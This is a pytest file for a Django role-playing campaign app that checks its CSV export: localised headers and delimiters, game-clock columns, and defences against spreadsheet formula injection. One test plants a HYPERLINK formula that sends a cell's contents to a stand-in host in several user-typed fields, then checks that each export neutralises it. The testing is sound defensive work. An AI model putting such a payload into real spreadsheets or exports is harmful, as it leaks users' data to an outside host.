"""The CSV export as a spreadsheet opens it: in French, ";" and French headers; in
English, "," and English headers; UTF-8 with a byte order mark; the campaign clock's day and
hour (R32); and no cell a spreadsheet would run as a formula (OWASP's rule: a text cell that
starts with = + - @ tab CR or LF gets a leading apostrophe), in the GM's and players' exports.
"""

import csv
import io
import json
import re
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse

from campaign.models import Membership, Role
from journal import exports
from journal.models import AuditEntry
from play import services
from tests.play.steps import T0, run

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")
FRENCH = {"accept-language": "fr"}
ENGLISH = {"accept-language": "en"}


def export(client, campaign, headers=FRENCH) -> tuple[str, list[list[str]]]:
    response = client.get(reverse("history_export", args=[campaign.pk, "csv"]), headers=headers)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())  # the BOM: spreadsheets detect UTF-8
    text = raw.decode("utf-8")[1:]
    separator = ";" if headers is FRENCH else ","
    return text, list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def formula_cells(rows) -> list[str]:
    """Cells a spreadsheet would read as a formula: a dangerous first character, unless the
    cell is a plain number (a negative PV is read as the number it is)."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(DANGEROUS) and not re.fullmatch(r"-\d+", cell)
    ]


@pytest.mark.parametrize("first", DANGEROUS, ids=repr)
def test_no_cell_starts_a_formula_whatever_people_typed(world, gm_client, player_client, first):
    """Every text a person types that reaches a CSV starts with `first`: the character's name
    (renamed too), the GM's username, a damage cause (R10, down_cause), a sequel's cause (R14),
    a skill (R5), an illness (R28), a fall's cause (R27), public and GM notes."""
    payload = first + 'HYPERLINK("http://example.invalid/?leak="&A1;"clic")'
    campaign, pc = world.campaign, world.pc
    gm = get_user_model().objects.create_user(username=f"{first}mj", password="x")
    Membership.objects.create(campaign=campaign, user=gm, role=Role.GM)
    gm_client = Client()
    gm_client.force_login(gm)

    services.character_update(character_id=pc.pk, actor=gm, name=payload[:80])
    services.character_update(
        character_id=pc.pk, actor=gm, public_notes=payload + " public", gm_notes=payload + " mj"
    )
    check = {"stat": "ADR", "skill": payload[:40], "difficulty": "10"}
    run(campaign, gm, "check", check, character=pc, typed=[12])
    run(campaign, gm, "fall_ill", {"severity": "1", "name": payload}, character=pc, typed=[2, 3])
    # R10: 14 damage, 2 PA: PV 11 → −1, Survie failed (a natural 1): into the coma.
    run(campaign, gm, "damage", {"amount": "14", "cause": payload}, character=pc, typed=[1])
    data = {"healer": world.other_pc.pk, "difficulty": "10"}
    run(campaign, gm, "stabilise", data, character=pc, typed=[20])  # R12
    # R13, R14: a waking try (20) with the D6 of the sequel's statistic (5).
    run(campaign, gm, "wake", {"sequel_cause": payload + " séquelle"}, character=pc, typed=[20, 5])
    run(
        campaign,
        gm,
        "fall",
        {"storeys": "1", "surface": "normal", "soften": "none", "cause": payload + " chute"},
        character=pc,
    )

    gm_text, gm_rows = export(gm_client, campaign)
    player_text, player_rows = export(player_client, campaign)
    assert formula_cells(gm_rows) == []
    assert formula_cells(player_rows) == []

    gm_cells = {cell for row in gm_rows for cell in row}
    player_cells = {cell for row in player_rows for cell in row}
    neutralised = "'" + payload
    # Cells that are the typed text itself keep it, behind the apostrophe.
    assert neutralised[:81] in gm_cells  # the character's name (and the rename's "after")
    assert neutralised[:81] in player_cells
    assert f"'{first}mj" in gm_cells and f"'{first}mj" in player_cells  # the actor
    assert neutralised + " public" in gm_cells and neutralised + " public" in player_cells
    assert neutralised + " mj" in gm_cells  # the GM's notes: the GM's export only
    assert payload + " mj" not in player_text
    # Forms strip the spaces around what is typed (a leading tab, CR or LF goes there).
    typed = exports.neutralise(payload.strip())
    assert typed in gm_cells  # the damage's cause: down_cause's "after" (R10)
    assert typed + " chute" in gm_cells  # the fall's cause (R27)
    # Inside JSON cells (a sequel's cause, the skill, the illness): there, the cell starting
    # with "[" or "{".
    for words in (payload.strip() + " séquelle", payload[:40].strip(), payload.strip()):
        encoded = json.dumps(words, ensure_ascii=False)
        assert any(encoded in cell for cell in gm_cells if cell[:1] in "[{"), words
    assert "2000-01-01" not in gm_text  # game times as the campaign's day and hour (R32)
    assert "jour 1, 09:00" in gm_cells  # the next coma hour (R10)
    # A negative PV stays a number that a spreadsheet can add up.
    assert "-1" in gm_cells


def test_neutralise_follows_owasp():
    for first in DANGEROUS:
        assert exports.neutralise(first + "1+1") == "'" + first + "1+1"
    assert exports.neutralise("Isaure") == "Isaure"
    assert exports.neutralise("'=1") == "'=1"  # already text
    assert exports.neutralise("") == ""
    assert exports.csv_cell(-3) == -3  # a number is no formula
    assert exports.csv_cell("-3") == "'-3"  # a text that looks like one is kept as text
    assert exports.csv_cell(["=1"]) == '["=1"]'
    assert exports.csv_cell(None) == ""


def test_the_french_csv_uses_semicolons_french_headers_and_the_game_clock(gm_client, world):
    # R32: two days and 8 h 55 after the start (day 1, 08:00): day 3, 16:55.
    campaign = world.campaign
    campaign.clock = T0 + timedelta(days=2, hours=8, minutes=55)
    campaign.save()
    run(
        campaign,
        world.gm,
        "damage",
        {"amount": "5", "cause": "une chute; puis"},
        character=world.pc,
    )
    text, rows = export(gm_client, campaign)
    header = rows[0]
    assert header[:4] == ["N°", "Horodatage", "Jour", "Heure de jeu"]
    assert "Personnage" in header and "Texte" in header and "Règle" in header
    assert text.splitlines()[0].count(";") == len(header) - 1
    record = dict(zip(header, rows[1], strict=True))
    assert record["Jour"] == "3" and record["Heure de jeu"] == "16:55"
    assert "2000" not in text  # no fake date for the game time
    assert record["Personnage"] == "Isaure"
    assert record["Type"] == "changement" and record["Champ"] == "PV"
    assert record["Visibilité"] == "Tout le monde"  # the pages’ own words
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", record["Horodatage"])


def test_the_english_csv_uses_commas_and_english_headers(gm_client, world):
    run(world.campaign, world.gm, "check", {"stat": "ADR", "difficulty": "10"}, character=world.pc)
    text, rows = export(gm_client, world.campaign, headers=ENGLISH)
    header = rows[0]
    assert header[:4] == ["No.", "Timestamp", "Day", "Game time"]
    assert "Character" in header and "Text" in header
    record = dict(zip(header, rows[1], strict=True))
    assert record["Day"] == "1" and record["Game time"] == "08:00"
    assert record["Kind"] == "roll" and record["Rolled by"] == "server"
    assert ";" not in text.splitlines()[0]


def test_the_json_export_gives_the_game_day_and_hour(gm_client, world):
    run(world.campaign, world.gm, "damage", {"amount": "5"}, character=world.pc)
    response = gm_client.get(reverse("history_export", args=[world.campaign.pk, "json"]))
    (record,) = json.loads(b"".join(response.streaming_content))["entries"]
    assert record["game_day"] == 1 and record["game_hour"] == "08:00"
    assert "game_time" not in record


def test_the_csv_is_one_header_row_then_one_row_per_entry_in_readable_words(gm_client, world):
    """A spreadsheet reads it whole: no seal row, no JSON in the value cells (the JSON has
    its own column), the pages' words, and which undo took an entry back (R10, R11)."""
    campaign, pc = world.campaign, world.pc
    # R10: 14 damage − 2 PA, a failed Survie test (a typed-in 1): PV 11 → −1, into the coma.
    damage = run(campaign, world.gm, "damage", {"amount": "14"}, character=pc, typed=[1])
    vital = next(e for e in damage.entries if e.field == "vital")
    undo = services.entry_undo(campaign_id=campaign.pk, actor=world.gm, entry_id=vital.pk)

    _text, rows = export(gm_client, campaign)
    header, *body = rows
    assert len(body) == AuditEntry.objects.filter(campaign=campaign).count()
    records = {int(row[0]): dict(zip(header, row, strict=True)) for row in body}
    undone = records[vital.pk]
    assert undone["Annulée par"] == str(undo.entries[0].pk)
    assert records[undo.entries[0].pk]["Annule l’entrée"] == str(vital.pk)
    assert (undone["Avant"], undone["Après"]) == ("debout", "dans le coma")
    assert records[undo.entries[0].pk]["Annulée par"] == ""
    roll = next(r for r in records.values() if r["Type"] == "jet")
    assert "D20 naturel 1" in roll["Jet"] and "échec" in roll["Jet"]
    assert json.loads(roll["Données (JSON)"])["roll"]["natural"] == 1
    for key in ("Avant", "Après", "Jet"):
        assert not any(r[key].startswith(("{", "[")) for r in records.values()), key
    assert not any(r["Champ"] in ("request", "seal", "vital") for r in records.values())
    assert {r["Visibilité"] for r in records.values()} == {"Tout le monde"}
